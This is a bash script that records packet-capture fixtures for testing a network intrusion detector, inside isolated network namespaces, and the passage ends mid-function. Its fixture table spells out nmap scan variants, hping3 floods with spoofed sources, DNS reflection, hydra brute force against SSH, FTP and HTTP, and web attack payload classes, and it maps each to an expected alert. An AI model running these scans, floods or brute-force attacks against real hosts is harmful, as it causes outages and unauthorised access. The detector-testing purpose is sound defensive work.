#!/usr/bin/env bash
# record-fixtures.sh — record the packet-capture fixtures in fixtures/ from real tools.
#
#   sudo bash scripts/record-fixtures.sh                 # record every fixture, rewrite manifest
#   sudo bash scripts/record-fixtures.sh nmap-fin.pcap   # record only the named fixtures
#   bash scripts/record-fixtures.sh --manifest-only      # rewrite fixtures/manifest.json only
#   bash scripts/record-fixtures.sh --list               # list fixture names
#
# Traffic only flows between two network namespaces this script creates (snp-rec-attacker,
# snp-rec-victim) joined by one veth pair: 10.77.0.1 / fd77::1 (attacker) and 10.77.0.2 /
# fd77::2 (victim). Nothing is routed anywhere else. The victim runs sshd (port 22, key login,
# temporary config and keys) and python3 -m http.server 80; captures are taken in the victim
# namespace. Namespaces, services and temporary files are removed on exit.
set -euo pipefail

HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
REPO=$(cd "$HERE/.." && pwd)
FIX=$REPO/fixtures
# shellcheck source=lib-netns.sh
source "$HERE/lib-netns.sh"
# shellcheck source=record-stream-fixtures.sh
source "$HERE/record-stream-fixtures.sh"
# shellcheck source=record-net-fixtures.sh
source "$HERE/record-net-fixtures.sh"

# ---------------------------------------------------------------------------------------------
# Fixture table: name | format | attacker ip | scan type | description
# (attacker ip / scan type "-" = no port scan expected)
FIXTURE_TABLE=$(
	cat <<'EOF'
nmap-syn.pcap|pcap|10.77.0.1|SYN|nmap -sS (SYN/half-open) scan of the top 1000 TCP ports; victim has 22 and 80 open
nmap-connect.pcap|pcap|10.77.0.1|CONNECT|nmap -sT (full connect) scan of the top 1000 TCP ports
nmap-fin.pcap|pcap|10.77.0.1|FIN|nmap -sF (FIN) scan of the top 1000 TCP ports
nmap-null.pcap|pcap|10.77.0.1|NULL|nmap -sN (NULL, no flags) scan of the top 1000 TCP ports
nmap-xmas.pcap|pcap|10.77.0.1|XMAS|nmap -sX (FIN+PSH+URG) scan of the top 1000 TCP ports
nmap-ack.pcap|pcap|10.77.0.1|ACK|nmap -sA (ACK) scan of the top 1000 TCP ports
nmap-maimon.pcap|pcap|10.77.0.1|MAIMON|nmap -sM (Maimon, FIN+ACK) scan of the top 1000 TCP ports
nmap-udp.pcap|pcap|10.77.0.1|UDP|nmap -sU scan of the top 100 UDP ports, --max-retries 1; closed ports answer ICMP port unreachable
nmap-syn-ipv6.pcap|pcap|fd77::1|SYN|nmap -6 -sS scan of the top 200 TCP ports over IPv6 (fd77::1 -> fd77::2)
benign-http.pcap|pcap|-|-|about 20 curl requests (GET, HEAD, some 404s) to the victim's http.server over IPv4, 3 over IPv6
benign-ssh.pcap|pcap|-|-|3 ssh sessions (key auth) running uname -a and ls /
hping3-synflood.pcap|pcap|-|-|hping3 -S --flood -p 80 from one real source (10.77.0.1), first 5000 packets: SYNs, the victim's SYN-ACKs and the attacker kernel's RSTs
hping3-synflood-randsrc.pcap|pcap|-|-|hping3 -S --flood --rand-source -p 80, first 5000 packets: SYNs, each from a spoofed random source (the victim has no route back, so no answers)
nmap-syn-any-sll.pcap|pcap|10.77.0.1|SYN|nmap -sS top 100 ports captured with tcpdump -i any -y LINUX_SLL (Linux cooked v1)
nmap-syn-any-sll2.pcap|pcap|10.77.0.1|SYN|nmap -sS top 100 ports captured with tcpdump -i any -y LINUX_SLL2 (Linux cooked v2)
nmap-syn.pcapng|pcapng|10.77.0.1|SYN|nmap -sS top 200 ports captured by dumpcap on the veth and lo (two interface blocks); lo carries curl to 127.0.0.1 and ::1
nmap-syn-ns.pcap|pcap|10.77.0.1|SYN|nmap -sS top 100 ports, nanosecond-resolution pcap (magic 0xa1b23c4d, little-endian on disk: 4d 3c b2 a1)
vlan-http.pcap|pcap|-|-|curl over an 802.1Q VLAN (id 100, 10.78.0.1 -> 10.78.0.2), captured on the parent (trunk) veth; every frame tagged
qinq-http.pcap|pcap|-|-|curl over QinQ: outer 802.1ad id 200, inner 802.1Q id 300 (10.79.0.1 -> 10.79.0.2), captured on the parent (trunk) veth; every frame double-tagged
benign-mixed.pcapng|pcapng|-|-|benign http (curl) and 2 ssh sessions captured by dumpcap as pcapng on the veth only
http-injection.pcap|pcap|-|-|curl requests whose request target, Host and User-Agent carry raw terminal-hostile bytes (CSI 2J and 31m, OSC 52 clipboard write, OSC 8 link, CR and BS overwrites, U+202E bidi override, C1 CSI 0x9b) to the victim's http.server
http-attacks.pcap|pcap|-|-|curl requests to the victim's http.server, one per payload-signature class (SQL injection, XSS, path traversal with --path-as-is, command injection, shellshock User-Agent, log4shell header, sqlmap User-Agent) plus 3 benign requests
hydra-ssh.pcap|pcap|-|-|hydra -l root -P (48 wrong passwords) -t 4 ssh://10.77.0.2: SSH password brute force against the victim's sshd (root may not log in with a password, so every attempt fails)
hydra-ftp.pcap|pcap|-|-|hydra -l admin -P (40 wrong passwords) -t 4 ftp://10.77.0.2: FTP password brute force against a pyftpdlib server in the victim (user admin exists, every password is wrong)
hping3-udpflood.pcap|pcap|-|-|hping3 --udp --flood -p 7777 from one real source (10.77.0.1), first 12000 packets: the UDP datagrams and the victim's ICMP port unreachables
hping3-icmpflood.pcap|pcap|-|-|hping3 --icmp --flood from one real source (10.77.0.1), first 6000 packets: echo requests and the victim's echo replies
exfil-upload.pcap|pcap|-|-|the victim (home net 10.77.0.2/32) uploads 50 MB with curl -T to a PUT server on 10.77.0.1:8000 (outside); veth MTU 9000, tcpdump -s 96 (headers only, pcap orig_len keeps the wire length)
benign-browsing.pcap|pcap|-|-|the victim browses a site on 10.77.0.1:80 (HTTP/1.1 keep-alive): 12 page loads of HTML plus CSS/JS/images with browser headers, query strings, cookies and some 404s, over IPv4 and IPv6
benign-download.pcap|pcap|-|-|the victim downloads a 25 MB .deb-like file over HTTP from 10.77.0.1:8000 (outside) plus its small index files; veth MTU 9000, tcpdump -s 96
benign-dns.pcap|pcap|-|-|dnsmasq in the victim answers about 150 queries from 10.77.0.1 (dig: A, AAAA, MX, TXT, SRV, PTR, NXDOMAIN, some over TCP and IPv6)
benign-ssh-password.pcap|pcap|-|-|5 ssh sessions (key auth) and one password login that fails once (wrong password, sshpass) then succeeds, user snoopy on the victim's sshd
nmap-syn-public.pcap|pcap|81.2.69.142|SYN|nmap-syn.pcap with the scanner's address rewritten offline to 81.2.69.142 (scripts/derive-fixtures.sh) for geo tags; no traffic was sent to it
nmap-distributed.pcap|pcap|-|-|one SYN scan of ports 1-59 split over six attacker addresses (nmap -sS -S ADDR -e snp-a): 10.77.0.11 probes 1-14 first, then 10.77.0.12-16 probe 9 ports each at the same time; every source stays under the PORT_SCAN threshold
nmap-os.pcap|pcap|-|-|nmap -O -p 22,80,443 --max-os-tries 1: OS detection (SEQ, ECN, T2-T7, U1, IE probes) after a 3-port SYN scan
nmap-host-sweep.pcap|pcap|-|-|host sweep of 32 victim addresses (10.77.0.100-131): nmap -sn -PE --send-ip (ICMP echo), then nmap -Pn -sS -p22
nmap-scan-delay.pcap|pcap|10.77.0.1|SYN|nmap -sS --scan-delay 500ms -p 1-40: about 2 probes a second, still a fast scan for PORT_SCAN's 60 s window
nmap-ipproto.pcap|pcap|10.77.0.1|IP_PROTOCOL|nmap -sO (IP protocol scan) of all 256 protocol numbers, --max-retries 0; the victim answers ICMP protocol unreachable
nmap-slow.pcap|pcap|10.77.0.1|SYN|nmap-scan-delay.pcap stretched 60 times in time offline (scripts/derive-fixtures.sh): one probe every 30 s over about 20 minutes, a slow scan
http-keepalive-attacks.pcap|pcap|-|-|one keep-alive connection (python http.client) to an HTTP/1.1 app on 8080: a benign request, then one request per payload-signature class (SQL injection, XSS, path traversal, command injection, shellshock User-Agent, log4shell header, Nikto User-Agent), each after the first
http-pipelined.pcap|pcap|-|-|five requests written at once on one connection (pipelining): benign, UNION SELECT in the query, XSS in Referer, command injection in a POST form body, benign
http-split.pcap|pcap|-|-|three requests each written in 3-4 TCP segments with 0.3 s pauses (TCP_NODELAY), cut through the attack strings: UNION SELECT in the query, shellshock in User-Agent, log4shell in X-Forwarded-For
http-post-form.pcap|pcap|-|-|curl --next: urlencoded POST bodies on one keep-alive connection, one per class (SQL injection, XSS, path traversal, command injection, log4shell) after a benign one, then a benign multipart form
http-post-json.pcap|pcap|-|-|curl --json --next: JSON POST bodies on one keep-alive connection, one per class (XSS, path traversal, command injection, log4shell) after a benign one, and a chunked JSON body with a \u0027-escaped UNION SELECT
http-header-injection.pcap|pcap|-|-|curl --next: SQL injection in Referer, XSS in a Cookie value, SQL injection in X-Forwarded-For, then a request with ordinary Referer, Cookie and X-Forwarded-For
http-sqli-versioned.pcap|pcap|-|-|curl --next: SQL injection hidden in MySQL versioned comments (/*!50000UNION*/ /*!50000SELECT*/, /*!12345UNION/**/SELECT*/)
hydra-http-basic.pcap|pcap|-|-|hydra -l admin -P (40 wrong passwords) -t 4 http-get /protected/ on port 8080: Basic-auth brute force, every try answered 401, hydra's own User-Agent
hydra-http-form.pcap|pcap|-|-|hydra -l admin -P (40 wrong passwords) -t 4 http-post-form /login on port 8080: login-form brute force, every try answered 403, hydra's own User-Agent
hydra-ftp-keepopen.pcap|pcap|-|-|hydra -l admin -P (200 wrong passwords) -t 4 ftp:// against a pyftpdlib that never hangs up on wrong passwords: about 200 tries over 4 connections, each refused with 530
benign-keepalive.pcap|pcap|-|-|two keep-alive connections of 42 and 49 browser-like requests (pages and assets with Referer and Cookie, a search form and a JSON API POST, a form login mistyped once then right, a Basic-auth page: its 401 challenge, then the right credentials)
benign-download-keepalive.pcap|pcap|-|-|a client downloads 20 MB from the app on 8080, then three more requests (one a POST) on the same connection; veth MTU 9000, tcpdump -s 200
benign-logins.pcap|pcap|-|-|normal logins with one typo each: HTTP Basic (challenge, then right), a form login, FTP (typo then right on one connection, 3 more logins), POP3, IMAP and SMTP AUTH against dovecot and aiosmtpd
nmap-frag.pcap|pcap|10.77.0.1|SYN|nmap -sS -f (every probe in 8-byte IP fragments) scan of the top 1000 TCP ports
nmap-mtu16.pcap|pcap|10.77.0.1|SYN|nmap -sS --mtu 16 (16-byte IP fragments) scan of the top 1000 TCP ports
hping3-synflood-frag.pcap|pcap|-|-|hping3 -S -f --flood -p 80 (each SYN in two 16-byte fragments) from one real source, first 6000 packets
hping3-udpflood-frag.pcap|pcap|-|-|hping3 --udp -f -d 64 --flood -p 7777 (each datagram in five fragments) from one real source, first 8000 packets
hping3-ackflood.pcap|pcap|-|-|hping3 -A -i u250 -p 80: about 4000 ACKs of no connection a second from one real source (the victim answers RST), first 6000 packets
hping3-rstflood.pcap|pcap|-|-|hping3 -R -i u250 -p 80: about 4000 RSTs of no connection a second from one real source, first 6000 packets
synflood-slow.pcap|pcap|-|-|hping3 -S -i u3333 -c 3000 -p 8081: one source, about 300 SYNs a second for 10 s to a closed port (the victim answers RST)
synflood-10src.pcap|pcap|-|-|ten hping3 -S -a 10.77.0.31-40 -i u20408 -c 600 -p 80: ten spoofed sources at about 49 SYNs a second each for 12 s
udp-burst-randsrc.pcap|pcap|-|-|hping3 --udp --rand-source -i u15 -p 7777 for 0.4 s: a sub-second burst of about 10,000 datagrams a second from random spoofed sources
dns-reflection-frag.pcap|pcap|-|-|hping3 sends TXT queries spoofed from the victim (a new source port each) to a resolver at 10.77.5.53 (a third namespace, MTU 576); its 700-byte answers reach the victim in two IP fragments each, about 2000 a second (first 3000 packets)
nmap-split-2src.pcap|pcap|-|-|one SYN scan split over two attacker addresses at the same time: 10.77.0.11 probes ports 1-14, 10.77.0.12 ports 15-28
nmap-sctp-init.pcap|pcap|10.77.0.1|SCTP_INIT|nmap -sY (SCTP INIT) scan of ports 1-100, --max-retries 1; the victim has no SCTP endpoint
nmap-sctp-cookie.pcap|pcap|10.77.0.1|SCTP_INIT|nmap -sZ (SCTP COOKIE-ECHO) scan of ports 1-100, --max-retries 1
nmap-decoy.pcap|pcap|10.77.0.1|SYN|nmap -sS -D 10.77.0.21,10.77.0.22,ME,10.77.0.23 of the top 200 ports: every probe also sent from three decoys nobody holds
benign-served-download.pcap|pcap|-|-|an outside client (10.77.0.1) downloads 30 MB with curl from a web server in the home net (the victim, 10.77.0.2:8080); veth MTU 9000, tcpdump -s 96
icmpflood-replies.pcap|pcap|-|-|hping3 --icmp -d 8000 --flood, first 3000 packets: 8000-byte echo requests and the victim's echo replies (12 MB leaving the home net); replayed with high-security
benign-ssh-parallel.pcap|pcap|-|-|40 ssh key logins started at once from 10.77.0.1 to the victim's sshd (home net)
benign-dns-burst.pcap|pcap|-|-|the victim resolves through an outside dnsmasq (10.77.0.1): 4 bursts of 250 lookups at once, 100 over IPv6, large TXT answers arriving fragmented over IPv4 and IPv6, 3000-byte pings both ways
EOF
)

fixture_names() { cut -d'|' -f1 <<<"$FIXTURE_TABLE"; }
# Fixtures made offline from recorded ones by scripts/derive-fixtures.sh (run after recording).
DERIVED_FIXTURES=(nmap-syn-public.pcap nmap-slow.pcap)
is_derived() { [[ " ${DERIVED_FIXTURES[*]} " == *" $1 "* ]]; }
# Fixtures whose attacker has a public address: the manifest marks them "public": true.
PUBLIC_FIXTURES=(nmap-syn-public.pcap)
is_public() { [[ " ${PUBLIC_FIXTURES[*]} " == *" $1 "* ]]; }
# expect.port_scan.scan_speed (an optional field): "slow" for low-and-slow scans.
# Malformed packets a fixture holds on purpose (expect.malformed, an optional field; 0 when absent).
fixture_malformed() {
	case $1 in
	# nmap -sO's probe for protocol 58 is an IPv4 packet claiming ICMPv6 with no ICMP header.
	nmap-ipproto.pcap) echo 1 ;;
	esac
}
fixture_scan_speed() { [[ $1 == nmap-slow.pcap ]] && echo slow || true; }
# Fixtures whose payloads carry attacker-controlled terminal-hostile bytes: the manifest marks
# them "injection": true (an optional field, absent elsewhere) so tests can find them.
INJECTION_FIXTURES=(http-injection.pcap)
is_injection() { [[ " ${INJECTION_FIXTURES[*]} " == *" $1 "* ]]; }
# Alerts other than port scans a detector must raise on a fixture (expect.alerts, an optional
# field absent elsewhere): name -> JSON array of {attack_type, attacker_ip}.
as_alerts() { jq -Rcn '[inputs | {attack_type: ., attacker_ip: "10.77.0.1"}]'; } # attack types, one a line
fixture_alerts() {
	case $1 in
	hydra-ssh.pcap) echo '[{"attack_type":"SSH_BRUTE_FORCE","attacker_ip":"10.77.0.1"}]' ;;
	hping3-synflood.pcap) echo '[{"attack_type":"SYN_FLOOD","attacker_ip":"10.77.0.1"}]' ;;
	# A DDOS names its top spoofed source, which is random: "*" matches any address.
	hping3-synflood-randsrc.pcap) echo '[{"attack_type":"DDOS","attacker_ip":"*"}]' ;;
	# attacker_ip of a distributed scan: the source with the most probes (10.77.0.11, 14 ports).
	nmap-distributed.pcap) echo '[{"attack_type":"DISTRIBUTED_SCAN","attacker_ip":"10.77.0.11"}]' ;;
	nmap-os.pcap) echo '[{"attack_type":"OS_FINGERPRINT","attacker_ip":"10.77.0.1"}]' ;;
	nmap-host-sweep.pcap) echo '[{"attack_type":"HOST_SWEEP","attacker_ip":"10.77.0.1"}]' ;;
	http-attacks.pcap) printf '%s\n' SQL_INJECTION XSS PATH_TRAVERSAL COMMAND_INJECTION SHELLSHOCK LOG4SHELL SCANNER_USER_AGENT |
		jq -Rcn '[inputs | {attack_type: ., attacker_ip: "10.77.0.1"}]' ;;
	hydra-ftp.pcap) echo '[{"attack_type":"FTP_BRUTE_FORCE","attacker_ip":"10.77.0.1"}]' ;;
	hping3-udpflood.pcap) echo '[{"attack_type":"UDP_FLOOD","attacker_ip":"10.77.0.1"}]' ;;
	hping3-icmpflood.pcap | icmpflood-replies.pcap) echo '[{"attack_type":"ICMP_FLOOD","attacker_ip":"10.77.0.1"}]' ;;
	# the outside receiver is the "attacker" of an exfiltration alert
	exfil-upload.pcap) echo '[{"attack_type":"DATA_EXFILTRATION","attacker_ip":"10.77.0.1"}]' ;;
	# Stream fixtures (scripts/record-stream-fixtures.sh): every request of a connection, bodies,
	# headers, and brute force read from the server's replies.
	http-keepalive-attacks.pcap) printf '%s\n' SQL_INJECTION XSS PATH_TRAVERSAL COMMAND_INJECTION SHELLSHOCK LOG4SHELL SCANNER_USER_AGENT | as_alerts ;;
	http-pipelined.pcap) printf '%s\n' SQL_INJECTION XSS COMMAND_INJECTION | as_alerts ;;
	http-split.pcap) printf '%s\n' SQL_INJECTION SHELLSHOCK LOG4SHELL | as_alerts ;;
	http-post-form.pcap) printf '%s\n' SQL_INJECTION XSS PATH_TRAVERSAL COMMAND_INJECTION LOG4SHELL | as_alerts ;;
	http-post-json.pcap) printf '%s\n' SQL_INJECTION XSS PATH_TRAVERSAL COMMAND_INJECTION LOG4SHELL | as_alerts ;;
	http-header-injection.pcap) printf '%s\n' SQL_INJECTION XSS | as_alerts ;;
	http-sqli-versioned.pcap) printf '%s\n' SQL_INJECTION | as_alerts ;;
	hydra-http-basic.pcap | hydra-http-form.pcap) printf '%s\n' HTTP_BRUTE_FORCE SCANNER_USER_AGENT | as_alerts ;;
	hydra-ftp-keepopen.pcap) echo '[{"attack_type":"FTP_BRUTE_FORCE","attacker_ip":"10.77.0.1"}]' ;;
	# a fragmented scan is also a fragment anomaly (tiny fragments) of its source
	nmap-frag.pcap | nmap-mtu16.pcap) echo '[{"attack_type":"FRAGMENT_ANOMALY","attacker_ip":"10.77.0.1"}]' ;;
	hping3-synflood-frag.pcap) echo '[{"attack_type":"SYN_FLOOD","attacker_ip":"10.77.0.1"},{"attack_type":"FRAGMENT_ANOMALY","attacker_ip":"10.77.0.1"}]' ;;
	hping3-udpflood-frag.pcap) echo '[{"attack_type":"UDP_FLOOD","attacker_ip":"10.77.0.1"},{"attack_type":"FRAGMENT_ANOMALY","attacker_ip":"10.77.0.1"}]' ;;
	# TCP floods of one source are SYN_FLOOD alerts; attack_details.flood_type says ACK or RST
	hping3-ackflood.pcap | hping3-rstflood.pcap | synflood-slow.pcap) echo '[{"attack_type":"SYN_FLOOD","attacker_ip":"10.77.0.1"}]' ;;
	# no source floods alone: a DDOS, named after the top source (any of them)
	synflood-10src.pcap | udp-burst-randsrc.pcap) echo '[{"attack_type":"DDOS","attacker_ip":"*"}]' ;;
	# the resolver is a reflector, never a scanner
	dns-reflection-frag.pcap) echo '[{"attack_type":"REFLECTION","attacker_ip":"10.77.5.53"}]' ;;
	nmap-split-2src.pcap) echo '[{"attack_type":"DISTRIBUTED_SCAN","attacker_ip":"*"}]' ;;
	esac
}
# Extra command-line arguments a replay of the fixture needs (manifest "args", absent elsewhere):
# fixtures whose victim is the home host name it, so the exfiltration detector (which needs a home
# net) and the inbound/outbound direction are exercised.
fixture_args() {
	case $1 in
	exfil-upload.pcap | benign-browsing.pcap | benign-download.pcap | benign-dns.pcap | benign-ssh-password.pcap | \
		benign-served-download.pcap | benign-dns-burst.pcap | benign-ssh-parallel.pcap)
		echo '["--home-net","10.77.0.2/32"]' ;;
	icmpflood-replies.pcap) echo '["--home-net","10.77.0.2/32","--profile","high-security"]' ;;
	esac
}
fixture_field() { awk -F'|' -v n="$1" -v f="$2" '$1 == n { print $f }' <<<"$FIXTURE_TABLE"; }

# ---------------------------------------------------------------------------------------------
# Manifest and summary

file_format() { # pcap | pcapng, from the magic number
	local magic
	magic=$(od -An -tx1 -N4 "$1" | tr -d ' \n')
	case $magic in
	0a0d0d0a) echo pcapng ;;
	d4c3b2a1 | a1b2c3d4 | 4d3cb2a1 | a1b23c4d) echo pcap ;;
	*) echo unknown ;;
	esac
}
cap_packets() { capinfos -M -T -r -c "$1" | cut -f2; }
cap_encap() { capinfos -M -T -r -E "$1" | cut -f2; }

write_manifest() {
	local name f ip scan entries=() ps ports alerts args kept
	for name in $(fixture_names); do
		f=$FIX/$name
		[[ -f $f ]] || { echo "manifest: $name not recorded yet, left out" >&2; continue; }
		ip=$(fixture_field "$name" 3)
		scan=$(fixture_field "$name" 4)
		if [[ $ip == - ]]; then ps=null ports=null; else
			ps=$(jq -cn --arg ip "$ip" --arg t "$scan" --arg s "$(fixture_scan_speed "$name")" '{attacker_ip: $ip, scan_type: $t} + (if $s == "" then {} else {scan_speed: $s} end)')
			ports=$(probed_ports "$f" "$ip" "$scan")
		fi
		entries+=("$(jq -cn --arg file "$name" --arg format "$(file_format "$f")" \
			--argjson ps "$ps" --argjson packets "$(cap_packets "$f")" \
			--arg encap "$(cap_encap "$f")" --argjson ports "$ports" --arg desc "$(fixture_field "$name" 5)" \
			'{file: $file, format: $format, expect: {port_scan: $ps}, packets: $packets,
			  encapsulation: $encap, ports_probed: $ports, description: $desc}')")
		if is_injection "$name"; then entries[-1]=$(jq -c '. + {injection: true}' <<<"${entries[-1]}"); fi
		# every fixture says which other alerts it expects; [] = none (benign, or a port scan only)
		local bad
		bad=$(fixture_malformed "$name")
		if [[ -n $bad ]]; then entries[-1]=$(jq -c --argjson m "$bad" '.expect.malformed = $m' <<<"${entries[-1]}"); fi
		if is_public "$name"; then entries[-1]=$(jq -c '. + {public: true}' <<<"${entries[-1]}"); fi
		alerts=$(fixture_alerts "$name")
		entries[-1]=$(jq -c --argjson a "${alerts:-[]}" '.expect.alerts = $a' <<<"${entries[-1]}")
		args=$(fixture_args "$name")
		if [[ -n $args ]]; then entries[-1]=$(jq -c --argjson a "$args" '. + {args: $a}' <<<"${entries[-1]}"); fi
	done
	# Entries of fixtures this script does not record (derived ones, scripts/derive-fixtures.sh) are kept.
	if [[ -f $FIX/manifest.json ]]; then
		while IFS= read -r kept; do entries+=("$kept"); done < <(jq -c --arg names "$(fixture_names)" \
			'($names | split("\n")) as $n | .[] | select(.file as $f | $n | index($f) | not) | .expect.alerts //= []' "$FIX/manifest.json")
	fi
	printf '%s\n' "${entries[@]}" | jq -s '.' >"$FIX/manifest.json.tmp"
	mv "$FIX/manifest.json.tmp" "$FIX/manifest.json"
	echo "wrote $FIX/manifest.json (${#entries[@]} fixtures)"
}

# Distinct destination ports the attacker probed (tcp or udp), for the summary.
probed_ports() {
	local f=$1 ip=$2 scan=$3 ipf=ip
	[[ $ip == *:* ]] && ipf=ipv6
	if [[ $scan == IP_PROTOCOL ]]; then
		# outer header only (ICMP errors quote the probe, whose ip.src also matches)
		tshark -n -r "$f" -Y "$ipf.src == $ip && !(icmp.type == 3)" -T fields -e ip.proto 2>/dev/null | cut -d, -f1
	elif [[ $scan == UDP ]]; then
		tshark -n -r "$f" -Y "$ipf.src == $ip && udp" -T fields -e udp.dstport 2>/dev/null
	elif [[ $scan == SCTP_INIT ]]; then
		tshark -n -r "$f" -Y "$ipf.src == $ip && sctp" -T fields -e sctp.dstport 2>/dev/null
	else
		tshark -n -r "$f" -Y "$ipf.src == $ip && tcp" -T fields -e tcp.dstport 2>/dev/null
	fi | sort -u | grep -c . || true
}

print_summary() {
	local name f ip scan ports
	printf '\n%-30s %-7s %8s %10s  %-28s %s\n' FILE FORMAT PACKETS BYTES ENCAPSULATION "PORTS PROBED"
	for name in $(fixture_names); do
		f=$FIX/$name
		[[ -f $f ]] || continue
		ip=$(fixture_field "$name" 3)
		scan=$(fixture_field "$name" 4)
		ports=-
		if [[ $ip != - ]] && command -v tshark >/dev/null; then ports=$(probed_ports "$f" "$ip" "$scan"); fi
		printf '%-30s %-7s %8s %10s  %-28s %s\n' "$name" "$(file_format "$f")" "$(cap_packets "$f")" \
			"$(stat -c %s "$f")" "$(cap_encap "$f")" "$ports"
	done
}

# ---------------------------------------------------------------------------------------------
# Arguments

MANIFEST_ONLY=0
SELECTED=()
for arg in "$@"; do
	case $arg in
	--list) fixture_names; exit 0 ;;
	--manifest-only) MANIFEST_ONLY=1 ;;
	-h | --help) sed -n '2,14p' "${BASH_SOURCE[0]}" | sed 's/^# \{0,1\}//'; exit 0 ;;
	-*) snp_die "unknown option: $arg" ;;
	*)
		fixture_names | grep -qxF "$arg" || snp_die "unknown fixture: $arg (see --list)"
		SELECTED+=("$arg")
		;;
	esac
done
if ((MANIFEST_ONLY)); then
	snp_require_tools capinfos jq tshark
	write_manifest
	print_summary
	exit 0
fi
((${#SELECTED[@]})) || mapfile -t SELECTED < <(fixture_names)
RECORD=()
for name in "${SELECTED[@]}"; do is_derived "$name" || RECORD+=("$name"); done

snp_require_root
snp_require_tools ip tcpdump dumpcap editcap capinfos tshark nmap hping3 curl ssh ssh-keygen jq /usr/sbin/sshd python3 timeout

# ---------------------------------------------------------------------------------------------
# Services

SSH_DIR=""
SSH_USER_PASSWORD=correct-horse-battery-staple
start_sshd() {
	SSH_DIR=$SNP_TMP/ssh
	mkdir -p "$SSH_DIR"
	chmod 700 "$SSH_DIR"
	ssh-keygen -q -t ed25519 -N '' -C snp-rec-host -f "$SSH_DIR/host_ed25519_key"
	ssh-keygen -q -t ed25519 -N '' -C snp-rec-client -f "$SSH_DIR/id_ed25519"
	cp "$SSH_DIR/id_ed25519.pub" "$SSH_DIR/authorized_keys"
	cat >"$SSH_DIR/sshd_config" <<EOF
Port 22
ListenAddress 0.0.0.0
ListenAddress ::
HostKey $SSH_DIR/host_ed25519_key
PidFile $SSH_DIR/sshd.pid
UsePAM no
PermitRootLogin prohibit-password
PubkeyAuthentication yes
AuthorizedKeysFile $SSH_DIR/authorized_keys
# Password auth is offered so hydra has something to try; root is prohibit-password, so every
# password attempt fails whatever the host's shadow file says.
PasswordAuthentication yes
PermitEmptyPasswords no
KbdInteractiveAuthentication no
StrictModes no
UseDNS no
PrintMotd no
PrintLastLog no
X11Forwarding no
EOF
	# sshd needs its privilege-separation directory (normally made by the service unit).
	[[ -d /run/sshd ]] || install -d -m 755 /run/sshd
	/usr/sbin/sshd -t -f "$SSH_DIR/sshd_config"
	# One password user (snoopy) for benign-ssh-password.pcap: sshd runs in a private mount
	# namespace where /etc/passwd and /etc/shadow are bind-mounted copies with that user added;
	# the host's own files are never written.
	mkdir -p "$SNP_TMP/home-snoopy"
	chown 4242:4242 "$SNP_TMP/home-snoopy"
	{ cat /etc/passwd; echo "snoopy:x:4242:4242:snoopy test user:$SNP_TMP/home-snoopy:/bin/sh"; } >"$SSH_DIR/passwd"
	{ cat /etc/shadow; echo "snoopy:$(openssl passwd -6 "$SSH_USER_PASSWORD"):19800:0:99999:7:::"; } >"$SSH_DIR/shadow"
	chmod 644 "$SSH_DIR/passwd"
	chmod 600 "$SSH_DIR/shadow"
	ip netns exec "$SNP_NS_V" unshare --mount --propagation private sh -c \
		'mount --bind "$0" /etc/passwd && mount --bind "$1" /etc/shadow && shift && exec "$@"' \
		"$SSH_DIR/passwd" "$SSH_DIR/shadow" /usr/sbin/sshd -D -e -f "$SSH_DIR/sshd_config" 2>"$SNP_TMP/sshd.log" 9>&- &
	SNP_PIDS+=($!)
	snp_wait_listen "$SNP_NS_V" 22
}

ssh_session() { # one login from the attacker namespace
	snp_in_a timeout 30 ssh -F /dev/null -i "$SSH_DIR/id_ed25519" -o IdentitiesOnly=yes -o BatchMode=yes \
		-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR \
		"root@$SNP_IP_V" 'uname -a; ls /' >"$SNP_TMP/ssh.out"
	printf '    ssh root@%s: %s (+ ls /: %s entries)\n' "$SNP_IP_V" "$(head -1 "$SNP_TMP/ssh.out")" "$(($(wc -l <"$SNP_TMP/ssh.out") - 1))"
}

http_get() { # URL [curl args…] — from the attacker namespace
	local url=$1
	shift
	snp_in_a curl --noproxy '*' -g -sS -o /dev/null --max-time 5 -w '    %{http_code} %{method} %{url_effective}\n' "$@" "$url"
}

benign_http_requests() {
	local b=http://$SNP_IP_V p
	for p in / /index.html /hello.txt /data.json /robots.txt /docs/ /docs/readme.md /docs/style.css \
		/img/blob.bin '/hello.txt?v=2' '/?q=search+term' /favicon.ico /missing.html /admin/ /docs/nothere.txt; do
		http_get "$b$p"
	done
	http_get "$b/" -I
	http_get "$b/hello.txt" -I
	http_get "$b/missing.html" -I
	http_get "$b/data.json" -H 'Accept: application/json' -A 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'
	http_get "$b/docs/" -H 'Accept-Language: en-GB'
	http_get "http://[$SNP_IP6_V]/"
	http_get "http://[$SNP_IP6_V]/hello.txt"
	http_get "http://[$SNP_IP6_V]/not-here"
}

# ---------------------------------------------------------------------------------------------
# Capture helpers (captures always run in the victim namespace)

OUT=""    # temporary output directory; fixtures move into fixtures/ only when complete
CAP_PID=""

cap_start() { # NAME COMMAND… — start a capture tool, wait until it is really listening
	local name=$1
	shift
	snp_log "recording $name"
	ip netns exec "$SNP_NS_V" "$@" 2>"$SNP_TMP/$name.cap.err" 9>&- &
	CAP_PID=$!
	SNP_PIDS+=("$CAP_PID")
	snp_wait_pattern "$SNP_TMP/$name.cap.err" 'listening on|Capturing on' 15 "$CAP_PID"
	sleep 1
}

cap_stop() { # let the last answers arrive, then SIGINT the capture and wait for it
	local i
	sleep 1
	kill -INT "$CAP_PID" 2>/dev/null || true
	for ((i = 0; i < 100; i++)); do snp_alive "$CAP_PID" || break; sleep 0.1; done
	if snp_alive "$CAP_PID"; then
		echo "warning: capture $CAP_PID ignored SIGINT, sending SIGTERM" >&2
		kill -TERM "$CAP_PID" 2>/dev/null || true
	fi
	wait "$CAP_PID" 2>/dev/null || true
	local p keep=()
	for p in "${SNP_PIDS[@]}"; do [[ $p == "$CAP_PID" ]] || keep+=("$p"); done
	SNP_PIDS=("${keep[@]}")
	CAP_PID=""
}

tcpdump_start() { # NAME [extra tcpdump options] — default: on the victim's veth
	local name=$1
	shift
	cap_start "$name" tcpdump -n -U -s 0 -Z root -i "$SNP_IF_V" "$@" -w "$OUT/$name"
}

finish() { # NAME — sanity-check and move into fixtures/
	local name=$1 f=$OUT/$1 n
	[[ -s $f ]] || snp_die "$name: capture is empty"
	n=$(cap_packets "$f")
	((n > 0)) || snp_die "$name: no packets captured"
	mv -f "$f" "$FIX/$name"
	chmod 644 "$FIX/$name"
